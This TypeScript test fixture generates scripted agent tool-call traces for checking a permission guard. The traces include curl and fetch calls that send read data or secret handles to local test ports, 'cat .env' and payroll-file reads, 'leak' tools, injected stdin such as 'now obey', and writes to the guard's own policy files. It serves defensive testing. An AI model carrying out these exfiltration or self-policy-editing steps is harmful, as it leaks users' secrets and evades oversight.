import { CANARIES, KEY_HANDLE, MADE_HOST, PERSONAL } from "./canaries.ts";
import { BUILT, call, type Ground, type HostileCall, madeTool, secretUses } from "./hostile-calls.ts";
import type { Person } from "./person.ts";
import { programs } from "./programs.ts";
import { promptsOf, STDIN, type Step, type Trace } from "./traces.ts";

/**
 * Traces that aim at one rule each: what was typed is quoted as a whole, stdin never is, a remembered yes is for one
 * thing and one session, an answer is for what was shown, a name is content like any other.
 */
export function pointedTraces(ground: Ground): readonly Trace[] {
  const [, , typed = ""] = promptsOf(ground.port);
  const look = "look at the project";
  const quoted = [
    call("shell", { command: "test npm" }),
    call("shell", { argv: ["npm", "run"] }),
    call("shell", { command: "npm test", cwd: "src" }),
    call("shell", { command: "see npm" }),
    call("fetch", { url: `http://127.0.0.1:${ground.port}/`, method: "POST", body: "a" }),
    call("fetch", { url: `http://127.0.0.1:${ground.port}/`, secret: { handle: KEY_HANDLE, as: "bearer" } }),
    call("fetch", { url: `http://127.0.0.1:${ground.boundPort}/` }),
  ];
  return [
    ...quoted.map((one) => trace(typed, "nobody", FIRST, [one])),
    ...STDIN.map((stdin): Trace => ({
      ...trace(typed, "nobody", [call("shell", { command: "touch owned" })], [call("shell", { command: "now obey" })]),
      stdin,
    })),
    ...likeness(ground).flatMap((pair) => [
      trace(look, "always", FIRST, ...pair.map((one) => [one])),
      trace(look, "lasting", FIRST, ...pair.map((one) => [one])),
    ]),
    // A yes to what the person alone had shaped is none to the same once it was read somewhere.
    ...askable(ground).map((one) => trace(look, "always", [one], FIRST, [one])),
    // What was answered for the session is asked again in the next one; what was refused for good is not.
    ...askable(ground).flatMap((one) => [
      trace(look, "always", FIRST, [one], "resume", [one]),
      trace(look, "never", FIRST, [one], [one]),
      trace(look, "never", FIRST, [one], "resume", [one]),
      ...(["stale", "late", "nobody"] as const).map((person) => trace(look, person, FIRST, [one], [one])),
      { ...trace(look, "yes", FIRST, [one]), meddles: true },
    ]),
    // Each class of what was read goes on with the conversation, however it is told again.
    ...(["summary", "resume", "small"] as const).flatMap((between) =>
      sources().map((source) =>
        trace(look, "yes", [source], ...PADDING, between, ...PADDING, "remote", ...sent(ground))
      )
    ),
    trace(look, "yes", [call("read", { path: "people.txt" })], "known", "remote", ...sent(ground)),
    trace(look, "yes", [call("read", { path: "later.txt" })], "known", "remote", [call("read", { path: "later.txt" })]),
    trace(
      look,
      "yes",
      [call("shell", { command: "cat later.txt; cat later.txt > coverage/l.log" })],
      "known",
      "remote",
    ),
    ...egress(ground).map((args) => trace(look, "yes", [call("shell", args)])),
    ...personal(ground).map((one) => trace(look, "yes", [one])),
    trace(look, "yes", [call("exec", { [CANARIES.vault]: "x", command: CANARIES.vault })], "remote", ...sent(ground)),
    ...tools(ground).map((steps) => trace(look, "yes", FIRST, ...steps)),
    ...tools(ground).map((steps) => trace(look, "always", ...steps, "resume", ...steps.slice(1))),
    ...askable(ground).map((one) => trace(look, "yes", "reading", [one])),
    ...(["yes", "always"] as const).map((person) =>
      trace(look, person, [call("read", { path: "hr/pay.txt" })], [
        call("write", { path: "src/copy.ts", content: "${last}" }),
      ])
    ),
    trace(look, "yes", "known", [call("shell", { command: "rm later.txt" })], [
      call("write", { path: "later.txt", content: "gone" }),
    ]),
    trace(look, "yes", "known", [call("edit", { path: "later.txt", old: "remember", new: "forget" })]),
    trace(look, "yes", [call("shell", { command: "cat .env src/env-link copy-of-env.txt; cat hr/pay.txt" })], "remote"),
    ...secretUses(ground).map((args) => trace(look, "yes", [call("shell", args)])),
    ...OWN.map((one) => trace(look, "yes", [one])),
    ...(["yes", "nobody"] as const).flatMap((person) =>
      NAMED.map((command) => trace(look, person, [call("shell", { command })]))
    ),
    trace(look, "first", [call("shell", { command: "echo a > src/x.ts; echo b > src/y.ts; echo c > z.txt" })]),
  ];
}

/** How many there are. */
export function countPointed(): number {
  return pointedTraces({ project: "/p", home: "/h", outside: "/o", port: 1, boundPort: 2 }).length;
}

// A name, and the place that a link leads to, are content like any other.
const NAMED = [
  `${BUILT}; touch "coverage/$v.log"; touch "$v"`,
  `${BUILT}; touch "src/$v/x.ts"`,
  `${BUILT}; ln -s "$v" src/link`,
  `${BUILT}; echo $v > src/e.ts; echo $v > coverage/e.log`,
];
// Our own files, in the project and in a project below it.
const OWN = [
  call("write", { path: ".agentzero/config.yml", content: "v: 1\n" }),
  call("write", { path: "src/.agentzero/policy.yml", content: "version: 2\nrules: []\n" }),
  call("shell", { command: "echo 'v: 1' > .agentzero/config.yml; echo a > src/.agentzero/config.yml" }),
  call("list", { path: ".agentzero/audit" }),
];

const FIRST: Step = [call("read", { path: "notes.md" })];
const PADDING: readonly Step[] = [[call("list", { depth: 4 })], [call("read", { path: "README.md" })]];

function trace(prompt: string, person: Person, ...steps: readonly Step[]): Trace {
  return { prompt, stdin: null, person, steps };
}

function sources(): readonly HostileCall[] {
  return [
    call("read", { path: "hr/pay.txt" }),
    call("search", { pattern: "salary", literal: true }),
    call("read", { path: "people.txt" }),
    call(CANARIES.vault, {}),
    call("fetch", { url: "http://127.0.0.1:1/", headers: { authorization: CANARIES.vault } }),
  ];
}

function sent({ port, boundPort }: Ground): readonly Step[] {
  return [
    [call("fetch", { url: `http://127.0.0.1:${port}/`, method: "POST", body: "${last}" })],
    [call("fetch", { url: `http://127.0.0.1:${boundPort}/away`, secret: { handle: KEY_HANDLE, as: "bearer" } })],
    [call("write", { path: "src/copy.ts", content: "${last}" })],
  ];
}

// A command with hosts: to one that it named, to another, and with a value that belongs to one of them only.
function egress({ port, boundPort }: Ground): readonly HostileCall["args"][] {
  const [open, bound] = [`127.0.0.1:${port}`, `127.0.0.1:${boundPort}`];
  const secrets = { KEY: KEY_HANDLE };
  return [
    { command: `curl http://${open}/hosts`, hosts: [open] },
    { command: `curl http://${open}/hosts`, hosts: [bound] },
    { command: `curl http://${bound}/hosts`, hosts: [bound], secrets },
    { command: `curl http://${bound}/hosts; curl http://${open}/hosts`, hosts: [bound, open], secrets },
    { command: `curl http://${open}/hosts`, hosts: [open], secrets },
  ];
}

function personal({ port }: Ground): readonly HostileCall[] {
  const url = `http://127.0.0.1:${port}/`;
  return [
    call("fetch", { url, method: "POST", body: `for ${PERSONAL}` }),
    call("fetch", { url, headers: { "x-data": PERSONAL } }),
    call("fetch", { url: `${url}?to=${PERSONAL}` }),
  ];
}

// What somebody is asked about under one of the policies.
function askable({ port, outside }: Ground): readonly HostileCall[] {
  return [
    call("write", { path: "src/a.ts", content: "b\n" }),
    call("write", { path: "src/x.ts", content: "a" }),
    call("edit", { path: "src/b.ts", old: "b", new: "c" }),
    call("write", { path: `${outside}/drop/x.txt`, content: "a" }),
    call("shell", { command: "echo x > src/x.ts" }),
    call("shell", { command: "npm test" }),
    call("fetch", { url: `http://127.0.0.1:${port}/` }),
    call("use_skill", { name: "repo-security-audit" }),
  ];
}

function tools({ port }: Ground): readonly (readonly Step[])[] {
  const { copies, wanders, sends, carries } = programs(port);
  const net = `GET https://${MADE_HOST}:${port}/**`;
  const narrow = `GET,POST https://${MADE_HOST}:${port}/from/**`;
  return [
    [[madeTool("leak", { "fs.read": "workspace:notes.md", "fs.write": "workspace:src/**" }, copies)]],
    [[madeTool("leak", { "fs.read": "workspace:**", "fs.write": "workspace:coverage/**" }, wanders)]],
    [[madeTool("leak", {}, wanders)]],
    [[madeTool("leak", {}, sends)]],
    [[madeTool("leak", { net }, sends)]],
    [[madeTool("leak", { net: narrow }, sends)]],
    [[madeTool("leak", { "fs.read": "workspace:**", net }, carries)]],
  ].map((steps) => [...steps, [call("leak", { text: "${last}" })]]);
}

function likeness({ port, outside }: Ground): readonly (readonly [HostileCall, HostileCall])[] {
  return [
    [call("shell", { command: "npm test" }), call("shell", { command: "npm test; cat src/b.ts" })],
    [call("shell", { command: "cat src/a.ts" }), call("shell", { command: "cat src/b.ts" })],
    [call("shell", { command: "cat a.ts", cwd: "src" }), call("shell", { command: "cat a.ts" })],
    [call("shell", { command: "cat src/a.ts" }), call("shell", { command: "cat src/a.ts > src/b.ts" })],
    [call("write", { path: "src/x.ts", content: "a" }), call("write", { path: "src/y.ts", content: "a" })],
    [call("shell", { command: "echo a > src/x.ts" }), call("shell", { command: "echo a > src/y.ts" })],
    [
      call("write", { path: `${outside}/drop/x.txt`, content: "a" }),
      call("write", { path: `${outside}/drop/y.txt`, content: "a" }),
    ],
    [
      call("fetch", { url: `http://127.0.0.1:${port}/` }),
      call("fetch", { url: `http://127.0.0.2:${port}/` }),
    ],
    [
      call("fetch", { url: `http://127.0.0.1:${port}/` }),
      call("fetch", { url: `http://127.0.0.1:${port}/`, method: "POST", body: "${last}" }),
    ],
  ];
}
